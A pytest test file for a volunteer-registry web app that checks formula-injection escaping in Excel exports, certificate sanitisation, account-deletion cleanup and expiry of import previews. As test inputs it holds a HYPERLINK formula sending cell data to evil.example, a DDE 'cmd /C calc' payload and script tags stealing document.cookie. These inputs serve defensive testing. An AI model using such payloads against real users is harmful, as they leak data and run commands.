"""Issue 13, breaks 6–8: workbooks keep people's text as text; deleting an account leaves no
personal data behind (timelines, the contact view log, certificate files, import previews) and
the download carries the files; certificates are parsed, cleaned, and opened by one rule,
audited."""
import io
import json
import os
import time
import zipfile

import pytest
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter

from tests.conftest import PASSWORD
from volunteer.auth.models import User
from volunteer.extensions import db
from volunteer.invitations.models import Invitation
from volunteer.invitations.services import Pick, decide_offer, invite, offer, respond
from volunteer.issues.models import IssueEvent
from volunteer.issues.services import IssueInput, file_issue
from volunteer.volunteers.models import ContactView, VolunteerProfile, VolunteerSkill, WorkUnit
from volunteer.volunteers.services import ProfileData, save_profile

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'


def sheet_cells(data: bytes) -> dict:
    """Every non-empty cell of every sheet: value -> data_type."""
    wb = load_workbook(io.BytesIO(data))
    return {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None}


def pdf_bytes(pages: int = 1) -> bytes:
    w = PdfWriter()
    for _ in range(pages):
        w.add_blank_page(width=200, height=200)
    w.add_metadata({"/Author": "童医生"})
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def jpeg_with_gps() -> bytes:
    img = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (30.0, 45.0, 25.2), 3: "E", 4: (121.0, 21.0, 10.8)})
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif)
    return buf.getvalue()


def png_bytes() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (40, 30), (0, 90, 200)).save(buf, "PNG")
    return buf.getvalue()


@pytest.fixture
def grid(factory):
    return factory.grid(factory.village(code="XJ", name="新江村"), code="XJ-01", lat=30.76,
                        lon=121.35)


def form_data(**over):
    data = {"name": "童医生", "phone": "13912345678", "password": "abc12345",
            "confirm": "abc12345", "village": "XJ", "grid": "XJ-01", "lat": "", "lon": "",
            "skills": ["doctor"], "free_skills": "", "availability": ["weekend_morning"],
            "travel_km": "5", "monthly_limit": "4", "bio": "", "consent": "y"}
    data.update(over)
    return data


def register_with(client, content: bytes, filename: str, **over):
    data = form_data(**over)
    data["cert_doctor"] = (io.BytesIO(content), filename)
    return client.post("/volunteers/register/skilled", data=data,
                       content_type="multipart/form-data")


def cert_files(app) -> list:
    folder = os.path.join(app.config["UPLOAD_FOLDER"], "certificates")
    return sorted(os.listdir(folder)) if os.path.isdir(folder) else []


def the_skill() -> VolunteerSkill:
    return db.session.scalar(db.select(VolunteerSkill))


# --- 6. formula injection ---------------------------------------------------------------------

def test_registry_export_keeps_formulas_as_text(client, auth, factory, grid):
    """A work unit from registration, a name from the API and a free-text skill that begin with
    = + - @ are text in the export, shown exactly as typed."""
    user = factory.user("volunteer", name="童医生")
    user.name = "@SUM(1+1)*cmd|' /C calc'!A0"  # as the API stored it before names were checked
    save_profile(user, ProfileData(home_grid=grid, lat=None, lon=None,
                                   free_skills=["+1+1", "-2+3"], is_party_member=True,
                                   work_unit=HYPERLINK))
    db.session.commit()
    auth.login("village_admin", grid.village)
    resp = client.get("/volunteers/export.xlsx")
    assert resp.status_code == 200
    cells = sheet_cells(resp.data)
    assert cells[HYPERLINK] == "s"
    assert cells["@SUM(1+1)*cmd|' /C calc'!A0"] == "s"
    assert cells["+1+1、-2+3"] == "s"
    assert "f" not in cells.values()


def test_dashboard_and_work_unit_workbooks_keep_formulas_as_text(client, auth, factory):
    village = factory.village(code="EV", name="=1+2")
    grid = factory.grid(village, code="EV-01")
    unit = WorkUnit(name=HYPERLINK, approved=True)
    db.session.add(unit)
    user = factory.user("volunteer", name="童医生")
    user.name = "=IMPORTXML(A1)"
    save_profile(user, ProfileData(home_grid=grid, lat=None, lon=None, free_skills=["书法"],
                                   is_party_member=True, work_unit=HYPERLINK))
    db.session.commit()
    auth.login("admin")
    cells = sheet_cells(client.get("/dashboard/export.xlsx?table=party").data)
    assert cells["=1+2"] == "s"
    resp = client.get(f"/dashboard/work-units?unit={unit.id}&format=xlsx")
    assert resp.status_code == 200
    cells = sheet_cells(resp.data)
    assert cells["=IMPORTXML(A1)"] == "s"
    assert any(isinstance(v, str) and v.startswith(HYPERLINK) and t == "s"
               for v, t in cells.items())  # the title: the unit's name and the period
    assert "f" not in cells.values()


def test_safe_row_keeps_numbers_and_marks_formula_text():
    from openpyxl import Workbook

    from volunteer.xlsx import append

    wb = Workbook()
    append(wb.active, ["=A1", "#N/A", 3, 2.5, None, "普通"])
    buf = io.BytesIO()
    wb.save(buf)
    row = next(load_workbook(buf).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        ("=A1", "s"), ("#N/A", "s"), (3, "n"), (2.5, "n"), (None, "n"), ("普通", "s")]
    assert row[0].quotePrefix and not row[5].quotePrefix


# --- 8. certificates --------------------------------------------------------------------------

@pytest.mark.parametrize("content", [
    b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>",
    b"%PDF-1.7\n" + b"x" * 200,
    b"\xff\xd8\xff\xe0 not really a jpeg",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
])
def test_certificate_that_does_not_parse_is_refused(client, app, grid, content):
    resp = register_with(client, content, "c.pdf")
    assert resp.status_code == 200 and "invalid-feedback" in resp.get_data(as_text=True)
    assert db.session.scalar(db.select(db.func.count(VolunteerProfile.id))) == 0
    assert cert_files(app) == []  # nothing left on disk either


def test_pdf_is_parsed_and_written_again_with_its_pages_only(client, app, grid):
    content = pdf_bytes(2) + b"\n<html><script>alert(1)</script></html>\n"
    assert register_with(client, content, "c.pdf").status_code == 302
    vs = the_skill()
    assert vs.certificate_mime == "application/pdf"
    resp = client.get(f"/volunteers/certificate/{vs.id}")
    assert resp.status_code == 200 and resp.mimetype == "application/pdf"
    assert b"<html" not in resp.data and b"<script" not in resp.data
    reader = PdfReader(io.BytesIO(resp.data))
    assert len(reader.pages) == 2
    assert "/Author" not in (reader.metadata or {})


@pytest.mark.usefixtures("english")
def test_pdf_without_pages_is_refused(client, app, grid):
    w = PdfWriter()
    buf = io.BytesIO()
    w.write(buf)
    resp = register_with(client, buf.getvalue(), "empty.pdf")
    assert resp.status_code == 200 and "cannot be read" in resp.get_data(as_text=True)
    assert cert_files(app) == []


@pytest.mark.usefixtures("english")
def test_jpeg_certificate_loses_its_exif_and_gps(client, app, grid):
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    assert register_with(client, original, "c.jpg").status_code == 302
    vs = the_skill()
    data = client.get(f"/volunteers/certificate/{vs.id}").data
    img = Image.open(io.BytesIO(data))
    assert img.format == "JPEG" and not img.getexif() and b"PhoneMaker" not in data
    assert vs.certificate_mime == "image/jpeg"


def test_png_certificate_is_stored_as_a_clean_jpeg(client, grid):
    assert register_with(client, png_bytes(), "c.png").status_code == 302
    data = client.get(f"/volunteers/certificate/{the_skill().id}").data
    assert Image.open(io.BytesIO(data)).format == "JPEG"


def test_certificate_opens_by_one_rule_and_others_are_audited(client, auth, factory, app, grid):
    assert register_with(client, pdf_bytes(), "c.pdf").status_code == 302
    vs = the_skill()
    owner = db.session.scalar(db.select(User).where(User.phone == "13912345678"))
    url = f"/volunteers/certificate/{vs.id}"
    assert client.get(url).status_code == 200  # the volunteer
    auth.logout()
    other_village = factory.grid(factory.village(code="YY"), code="YY-01")
    refused = [factory.user("grid_member", grid),  # in the grid, may not open the volunteer
               factory.user("resident"),
               factory.user("grid_leader", other_village),
               factory.user("village_admin", other_village.village)]
    for user in refused:
        auth.login(user=user)
        assert client.get(url).status_code == 404, user.roles[0].role
        auth.logout()
    assert db.session.scalar(db.select(db.func.count(ContactView.id))) == 0
    leader = factory.user("grid_leader", grid)
    auth.login(user=leader)
    assert client.get(url).status_code == 200
    (view,) = db.session.scalars(db.select(ContactView)).all()
    assert (view.viewer_id, view.subject_id, view.context) == (leader.id, owner.id,
                                                              "certificate")


def test_replaced_or_dropped_certificate_file_is_deleted(client, app, grid):
    assert register_with(client, pdf_bytes(), "c.pdf").status_code == 302
    (first,) = cert_files(app)
    data = form_data(skills=["doctor", "nurse"])
    data["cert_doctor"] = (io.BytesIO(png_bytes()), "new.png")
    assert client.post("/volunteers/me/edit", data=data,
                       content_type="multipart/form-data").status_code == 302
    (second,) = cert_files(app)
    assert second != first and second == the_skill().certificate_file
    # A refused edit keeps the file it had and leaves no new one.
    data = form_data(skills=["doctor", "nurse"])
    data["cert_nurse"] = (io.BytesIO(b"%PDF-1.4 <html>"), "bad.pdf")
    data["cert_doctor"] = (io.BytesIO(pdf_bytes()), "again.pdf")
    assert client.post("/volunteers/me/edit", data=data,
                       content_type="multipart/form-data").status_code == 200
    assert cert_files(app) == [second]
    # Dropping the skill drops its certificate.
    assert client.post("/volunteers/me/edit", data=form_data(skills=["nurse"])).status_code == 302
    assert cert_files(app) == []


# --- 7. deletion and download -----------------------------------------------------------------

@pytest.fixture
def town(factory):
    village = factory.village(code="VA", name="甲村")
    grid = factory.grid(village, code="VA-01", lat=30.757, lon=121.353)
    return {"grid": grid, "leader": factory.user("grid_leader", grid, name="网格长"),
            "member": factory.user("grid_member", grid, name="网格员"),
            "sparky": factory.volunteer("电工欧阳", ["electrician"], grid=grid)}


def lamp(town, title="绿地路灯不亮"):
    issue = file_issue(town["member"], IssueInput(
        title=title, description="小区绿地的路灯晚上全部不亮，需要电工排查",
        category="facilities", lat=30.7571, lon=121.3531, helpers_needed=1))
    db.session.commit()
    return issue


def delete_account(client, auth, user):
    auth.logout()
    auth.login(user=user)
    assert client.post("/auth/delete", data={"password": PASSWORD}).status_code == 302
    db.session.expire_all()


@pytest.mark.usefixtures("following_matcher")
def test_deletion_clears_timelines_of_reasons_notes_and_the_name(client, auth, town):
    sparky, leader = town["sparky"], town["leader"]
    first, second = lamp(town), lamp(town, "楼道灯坏了")
    (inv,) = invite(leader, first, [Pick(sparky.id, score=0.8, reasons=[["near", {}]])])
    respond(sparky, inv, accept=False, reason="我在外地，电话13912340000，住幸福路8号")
    mine = offer(sparky, second, note="住幸福路8号3楼，打13912340000")
    decide_offer(leader, mine, accept=False, reason="已有人")
    db.session.commit()
    comments = [e.comment for e in db.session.scalars(db.select(IssueEvent))]
    assert any("13912340000" in (c or "") for c in comments)
    assert any((c or "").startswith("电工欧阳") for c in comments)
    delete_account(client, auth, sparky)
    comments = [e.comment or "" for e in db.session.scalars(db.select(IssueEvent))]
    assert not any("13912340000" in c or "幸福路" in c or "欧阳" in c or "已有人" in c
                   for c in comments)
    for inv in db.session.scalars(db.select(Invitation)):
        assert (inv.note, inv.reasons, inv.distance_m) == (None, None, None)


def test_deletion_clears_export_filters_from_the_contact_view_log(client, auth, grid):
    admin = auth.login("village_admin", grid.village)
    assert client.get("/volunteers/export.xlsx?q=张家阿婆的儿子").status_code == 200
    (view,) = db.session.scalars(db.select(ContactView)).all()
    assert "张家阿婆" in view.note
    delete_account(client, auth, admin)
    view = db.session.get(ContactView, view.id)
    assert view.note is None and view.context == "export"  # the record of the export stays


def test_deletion_removes_certificate_files(client, auth, app, grid):
    assert register_with(client, pdf_bytes(), "c.pdf").status_code == 302
    assert len(cert_files(app)) == 1
    assert client.post("/auth/delete", data={"password": "abc12345"}).status_code == 302
    assert cert_files(app) == []


def test_download_is_a_zip_with_certificates_photos_and_invitation_scores(
        client, auth, app, town):
    from volunteer.issues.photos import PhotoBatch, check_photo

    sparky = town["sparky"]
    issue = lamp(town)
    invite(town["leader"], issue, [Pick(sparky.id, score=0.75, distance_m=120,
                                        reasons=[["skill", {"code": "electrician"}]])])
    PhotoBatch().add(issue, [check_photo(jpeg_with_gps())], sparky)
    db.session.commit()
    auth.login(user=sparky)
    data = form_data(skills=["doctor"], name=None, phone=None, password=None, confirm=None,
                     grid="VA-01", village="VA")
    data = {k: v for k, v in data.items() if v is not None}
    data["cert_doctor"] = (io.BytesIO(pdf_bytes()), "c.pdf")
    assert client.post("/volunteers/me/edit", data=data,
                       content_type="multipart/form-data").status_code == 302
    page = client.get("/volunteers/me").get_data(as_text=True)
    assert "/auth/my-data.zip" in page
    resp = client.get("/auth/my-data.zip")
    assert resp.status_code == 200 and resp.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(resp.data))
    names = archive.namelist()
    exported = json.loads(archive.read("data.json"))
    (inv,) = exported["invitations"]
    assert inv["score"] == 0.75 and inv["reasons"] == [["skill", {"code": "electrician"}]]
    cert = next(n for n in names if n.startswith("files/certificates/"))
    assert cert.endswith(".pdf") and len(PdfReader(io.BytesIO(archive.read(cert))).pages) == 1
    photo = next(n for n in names if n.startswith("files/photos/"))
    assert archive.read(photo)[:3] == b"\xff\xd8\xff"
    # The JSON alone stays at its old address.
    assert client.get("/auth/my-data.json").get_json()["invitations"][0]["score"] == 0.75


# --- 7. import previews -----------------------------------------------------------------------

CSV = "姓名,手机,技能,纬度,经度\n童建国,13900001111,医生,30.757,121.353\n".encode()


def preview(client) -> str:
    resp = client.post("/volunteers/import", data={"file": (io.BytesIO(CSV), "v.csv"),
                                                   "attest": "y"},
                       content_type="multipart/form-data")
    body = resp.get_data(as_text=True)
    return body.split('name="token" type="hidden" value="')[1].split('"')[0]


def previews_on_disk(app) -> list:
    folder = os.path.join(app.config["UPLOAD_FOLDER"], "imports")
    return sorted(os.listdir(folder)) if os.path.isdir(folder) else []


def age(app, name: str, hours: float) -> None:
    path = os.path.join(app.config["UPLOAD_FOLDER"], "imports", name)
    then = time.time() - hours * 3600
    os.utime(path, (then, then))


@pytest.mark.usefixtures("english")
def test_import_previews_expire_within_a_day(client, auth, app, runner, factory):
    grid = factory.grid(code="SY01-01", lat=30.757, lon=121.353)
    auth.login("village_admin", grid.village)
    token = preview(client)
    (old,) = previews_on_disk(app)
    age(app, old, 13)
    resp = client.post("/volunteers/import/confirm", data={"token": token},
                       follow_redirects=True)
    assert "This upload has expired" in resp.get_data(as_text=True)
    assert db.session.scalar(db.select(db.func.count(User.id))) == 1  # nothing imported
    preview(client)  # a new preview removes the expired one
    (new,) = previews_on_disk(app)
    assert new != old
    age(app, new, 30)
    result = runner.invoke(args=["tick"])
    assert "1 expired import preview(s) deleted" in result.output
    assert previews_on_disk(app) == []


def test_deletion_removes_my_import_previews(client, auth, app, factory):
    grid = factory.grid(code="SY01-01", lat=30.757, lon=121.353)
    admin = auth.login("village_admin", grid.village)
    preview(client)
    assert len(previews_on_disk(app)) == 1
    delete_account(client, auth, admin)
    assert previews_on_disk(app) == []
